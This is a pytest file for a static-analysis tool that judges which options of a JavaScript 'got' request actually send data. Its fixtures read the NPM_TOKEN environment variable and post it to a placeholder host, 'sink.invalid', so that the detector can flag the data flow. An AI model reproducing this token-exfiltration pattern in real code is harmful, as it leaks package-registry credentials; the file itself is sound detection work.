"""The options of a request: which are sent, and which only say how."""

import pytest

from pratique.analysis.facts import Capability
from pratique.analysis.languages.javascript.request_options import ADDRESSES, HEADERS, SETTINGS
from tests.analysis.languages.javascript.reading import flows

_ASK = "const got = require('got');\nconst D = process.env.NPM_TOKEN;\n"


@pytest.mark.parametrize(
    ("sent", "options"),
    [
        (True, "{ json: D }"),
        (True, "{ json: { D } }"),
        (True, "{ body: D, json: true }"),
        (True, "{ headers: { 'x-data': D } }"),
        (False, "{ json: true, proxy: D }"),
        (False, "{ agentOptions: { ca: D } }"),
        (False, "{ https: { key: D } }"),
    ],
)
def test_what_says_how_is_not_sent(sent: bool, options: str) -> None:
    found = flows(f"{_ASK}got.post('https://sink.invalid/', {options});")

    assert sent is any(flow[0] is Capability.NETWORK for flow in found)


def test_no_option_is_of_two_sorts() -> None:
    assert not SETTINGS & ADDRESSES
    assert not HEADERS & (SETTINGS | ADDRESSES)
